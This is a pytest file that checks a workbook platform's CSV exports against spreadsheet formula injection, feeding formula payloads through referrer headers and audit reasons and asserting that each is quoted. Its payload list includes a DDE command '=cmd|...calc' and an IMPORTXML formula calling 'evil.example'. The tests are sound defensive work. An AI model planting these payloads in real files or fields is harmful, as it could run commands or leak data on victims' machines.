"""Group R: what leaves the platform as a file and is opened by a spreadsheet."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from config import csvio
from config.audit import note
from config.testing.client import body_of
from config.tests.routes.resolver import routes
from workbooks.catalog.tests.factories import published
from workbooks.engagement.models import View

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=cmd|'/C calc'!A0", '=IMPORTXML("https://evil.example","//a")',
    '"=1+1', ";=1", "＝1+1", "＋1", "－1", "＠x",
)  # fmt: skip
CSV_ROUTES = {"GET /api/v1/workbooks/{workbook_id}/stats.csv", "GET /api/v1/moderation/audit.csv"}


def cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode(), newline="")))


def test_r01_a_formula_is_a_text_in_every_file() -> None:
    raw = b"".join(csvio.lines(FORMULAS, [FORMULAS, (1, -1)]))
    for row in cells(raw)[:2]:
        assert row == [f"'{formula}" for formula in FORMULAS]
    assert raw.endswith(b"\r\n1,-1\r\n")


@pytest.mark.django_db
def test_r01_a_formula_in_a_referrer_never_reaches_the_authors_file(api: Any, owner: Any) -> None:
    assert {
        each.key for each in routes() if each.operation and getattr(each.operation.answer, "media", "") == csvio.MEDIA
    } == CSV_ROUTES
    made = published(owner)
    for number, formula in enumerate(FORMULAS):
        referer = f"https://{formula}/".replace("\r", "").encode().decode("latin-1")
        api.post(f"/workbooks/{made.pk}/view", User_Agent=f"Firefox {number}", Referer=referer)
    assert View.objects.count() == len(FORMULAS)
    View.objects.filter(referrer=None).update(referrer="=cmd|'/C calc'!A0")
    rows = cells(api.as_(owner).get(f"/workbooks/{made.pk}/stats.csv").content)
    assert rows[-1][-1].startswith("'=cmd|")
    assert not any(cell[:1] in {*"=+@＝", "-"} for row in rows for cell in row)


@pytest.mark.django_db
def test_r01_a_formula_in_a_reason_never_reaches_the_managers_file(api: Any, manager: Any) -> None:
    for formula in FORMULAS:
        note(action="case.decided", actor=manager, target=("case", formula), reason=formula)
    header, *rows = cells(body_of(api.as_(manager).get("/moderation/audit.csv")))
    reasons = [row[header.index("reason")] for row in rows if row[header.index("action")] == "case.decided"]
    assert len(reasons) == len(FORMULAS)
    assert not any(reason[:1] in {*"=+@＝\t\r", "-"} for reason in reasons)
    assert not any(cell[:1] in {*"=+@＝", "-"} for row in rows for cell in row)


@pytest.mark.parametrize(
    "text",
    [
        'say "so"',
        "a,b",
        "a\nb",
        "a\r\nb",
        "\r",
        "a\0b",
        "a\u2028b",
        '""',
        '"',
        "x" * 1_048_576,
        "\ufeffa",
        "é\U0001f600",
    ],
    ids=range(12),
)
def test_r02_whatever_a_field_holds_is_read_back(text: str) -> None:
    csv.field_size_limit(2_000_000)
    header, row = cells(b"".join(csvio.lines(["a", "b"], [[text, 7]])))
    assert header == ["a", "b"]
    assert row[1] == "7"
    assert (row[0][1:] if row[0].startswith("'") else row[0]) == text
